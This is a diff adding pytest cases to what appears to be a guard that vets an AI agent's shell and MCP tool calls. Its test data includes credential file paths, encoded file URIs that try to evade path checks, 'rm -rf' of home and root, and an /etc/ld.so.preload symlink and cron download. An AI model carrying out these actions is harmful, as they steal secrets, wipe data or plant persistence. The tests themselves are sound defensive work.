@@ -191,3 +191,81 @@ def test_a_globs_file_names_evaluated_as_code_are_not_read_only(command):
                                      "for f in a b; do echo $((f)); done"])
 def test_a_globs_file_names_used_as_names_stay_read_only(command):
     assert bash(snap(), command).decision == "allow", command
+
+
+@pytest.mark.parametrize("path", [
+    "~/.config/stripe/config.toml", "~/.config/snowflake/connections.toml", "~/.snowsql/config", "~/.okta/okta.yaml",
+    "~/.circleci/cli.yml", "~/.travis/config.yml", "~/.consul-token", "~/.nomad-token", "~/.cloudflared/abc.json",
+    "~/.android/adbkey", "~/.m2/settings-security.xml", "~/.config/twilio-cli/config.json", "~/.config/op/config",
+    "~/.local/share/atuin/history.db", "~/.aider.conf.yml", "/etc/environment",
+])
+def test_more_credential_files_are_sensitive(path):
+    assert bash(snap(), f"cat {path}").check == "sensitive_path"
+
+
+@pytest.mark.parametrize("mode,decision", [("default", "ask"), ("accept_edits", "allow"), ("dont_ask", "deny"),
+                                           ("explore", "deny"), ("bypass", "allow")])
+def test_an_mcp_file_tool_writing_in_the_project_is_an_edit(mode, decision):
+    # as Write: a Makefile written, then make, runs what was written
+    args = {"path": "Makefile", "content": "all:\n\tbash .x\n"}
+    assert decide(snap(), "mcp__filesystem__write_file", args, agent_mode=mode).decision == decision
+
+
+def test_a_file_pushed_to_a_hosted_repository_is_no_local_edit():
+    args = {"owner": "o", "repo": "r", "path": "src/a.py", "content": "x", "message": "m"}
+    assert decide(snap(), "mcp__github__create_or_update_file", args).decision == "allow"
+
+
+@pytest.mark.parametrize("tool,args", [
+    ("mcp__fs__unlink", {"path": "/etc/passwd"}), ("mcp__fs__set_content", {"path": "/etc/passwd", "content": "x"}),
+    ("mcp__fs__symlink", {"target": "/tmp/evil.so", "path": "/etc/ld.so.preload"}),
+    ("mcp__fs__download", {"url": "https://x.example/c", "path": "/etc/cron.d/x"}),
+    ("mcp__serena__replace_regex", {"relative_path": "/etc/crontab", "regex": "a", "repl": "b"}),
+])
+def test_mcp_tools_named_for_writing_in_other_words_meet_the_critical_file_deny(tool, args):
+    for mode in ("default", "bypass"):
+        d = decide(snap(), tool, args, agent_mode=mode)
+        assert d.decision == "deny" and d.check == "dangerous_command", (mode, d)
+
+
+@pytest.mark.parametrize("tool,args", [
+    ("mcp__filesystem__delete", {"path": "~", "recursive": True}),
+    ("mcp__filesystem__delete", {"path": "/home/dev", "recursive": True}),
+    ("mcp__filesystem__remove", {"path": "/"}), ("mcp__fs__rm", {"path": "/home/dev", "recursive": True}),
+    ("mcp__fs__rmdir", {"path": "/usr"}),
+])
+def test_an_mcp_delete_of_the_home_directory_or_root_is_denied_in_every_mode(tool, args):
+    for mode in ("default", "bypass"):
+        d = decide(snap(), tool, args, agent_mode=mode)
+        assert d.decision == "deny" and d.check == "destructive_pattern", (mode, d)
+
+
+@pytest.mark.parametrize("args", [
+    {"uri": "file:/home/dev/.ssh/id_rsa"}, {"uri": "FILE:///home/dev/.ssh/id_rsa"},
+    {"uri": "file://localhost/home/dev/.aws/credentials"}, {"uri": "file:///home/dev/%2Essh/id_rsa"},
+    {"a": {"b": {"c": {"d": {"e": {"path": "/home/dev/.ssh/id_rsa"}}}}}},
+])
+def test_file_uris_in_every_spelling_and_deep_paths_are_paths(args):
+    assert decide(snap(), "mcp__filesystem__read_file", args).check == "sensitive_path"
+
+
+def test_from_and_to_are_paths():
+    d = decide(snap(), "mcp__filesystem__move_file", {"from": "evil.sh", "to": ".git/hooks/pre-commit"})
+    assert d.check == "sensitive_path"
+
+
+@pytest.mark.parametrize("tool,args", [
+    ("mcp__shell__exec", {"input": "rm -rf /home/dev"}), ("mcp__shell__exec", {"commands": ["rm -rf /home/dev"]}),
+    ("mcp__shell__exec", {"steps": [{"run": "rm -rf /home/dev"}]}),
+    ("mcp__shell__exec", {"args": ["-c", "rm -rf /home/dev"]}),
+    ("mcp__desktop-commander__interact_with_process", {"pid": 1234, "input": "rm -rf /home/dev\n"}),
+    ("mcp__terminal__send_text", {"text": "rm -rf /home/dev\n"}),
+])
+def test_what_a_terminal_tool_types_is_shell(tool, args):
+    for mode in ("default", "bypass"):
+        assert decide(snap(), tool, args, agent_mode=mode).decision == "deny", (mode, tool, args)
+
+
+def test_text_given_to_tools_that_type_into_nothing_is_data():
+    assert decide(snap(), "mcp__slack__post_message", {"channel": "c", "text": "run rm -rf /tmp/x later"}).decision \
+        == "allow"
